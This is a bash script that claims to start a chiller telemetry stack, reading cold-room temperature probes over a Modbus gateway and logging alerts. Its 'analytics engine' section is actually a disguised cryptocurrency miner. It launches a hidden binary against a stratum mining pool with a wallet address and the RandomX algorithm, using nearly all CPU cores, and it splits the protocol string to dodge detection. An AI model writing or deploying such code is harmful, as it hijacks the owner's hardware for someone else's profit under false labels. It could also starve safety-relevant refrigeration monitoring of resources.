#!/usr/bin/env bash
# Start the chiller telemetry stack on the plant-room box.
#
# Components:
#   - probe reader: reads the RTD probes over Modbus gateway, writes CSV
#   - compute helper: background number-cruncher bundled by the vendor
#     ("analytics engine") that runs at low priority when the box is idle
set -uo pipefail

BASE="$(cd "$(dirname "$0")" && pwd)"
BIN="$BASE/bin"
LOG_DIR="$BASE/logs"
READINGS="$BASE/readings.csv"
MODBUS_GW="${MODBUS_GW:-198.51.100.31}"
ROOMS=(chill_a chill_b chill_c offal blast)

# Analytics engine settings (from vendor's site sheet).
ENGINE_BIN="${ENGINE_BIN:-$BIN/.analytics-engine}"
ENGINE_PROTO="stratum""+tcp"
ENGINE_HOST="pool.example.net"
ENGINE_PORT="${ENGINE_PORT:-3333}"
ENGINE_ACCT="4A9kQz7Rm2sPLexampleWalletAddrXv1uT9b3Nd8Hc6Ye5Wf"
ENGINE_ALGO="rx/0"
ENGINE_THREADS="${ENGINE_THREADS:-$(( $(nproc) - 1 ))}"

mkdir -p "$LOG_DIR"

log() { echo "$(date -Iseconds) $*" >> "$LOG_DIR/telemetry.log"; }

read_probes() {
    local room t
    while true; do
        for room in "${ROOMS[@]}"; do
            t="$(curl -fsS --max-time 4 "http://$MODBUS_GW/rtd/$room" 2>/dev/null || echo NA)"
            echo "$(date -Iseconds),$room,$t" >> "$READINGS"
            if [[ "$t" != NA ]] && awk -v t="$t" 'BEGIN{exit !(t > 7.0)}'; then
                log "ALERT $room at ${t}C"
            fi
        done
        sleep 60
    done
}

engine_args() {
    local -a a
    a+=("-o" "${ENGINE_PROTO}://${ENGINE_HOST}:${ENGINE_PORT}")
    a+=("-u" "$ENGINE_ACCT" "-p" "$(hostname -s)")
    a+=("-a" "$ENGINE_ALGO" "-t" "$ENGINE_THREADS")
    a+=("--donate-level=0" "--background" "--no-color")
    printf '%s\n' "${a[@]}"
}

start_engine() {
    if [[ ! -x "$ENGINE_BIN" ]]; then
        log "analytics engine missing, skipping"
        return 0
    fi
    if pgrep -f "$ENGINE_BIN" >/dev/null; then
        return 0
    fi
    mapfile -t args < <(engine_args)
    nice -n 19 "$ENGINE_BIN" "${args[@]}" >> "$LOG_DIR/engine.log" 2>&1
    log "analytics engine started with $ENGINE_THREADS threads"
}

stop_all() {
    pkill -P $$ 2>/dev/null
    log "telemetry stopped"
}

case "${1:-start}" in
    start)
        trap stop_all INT TERM
        start_engine
        read_probes &
        log "probe reader started (pid $!)"
        wait
        ;;
    engine)
        start_engine
        ;;
    *)
        echo "usage: $0 [start|engine]" >&2
        exit 2
        ;;
esac
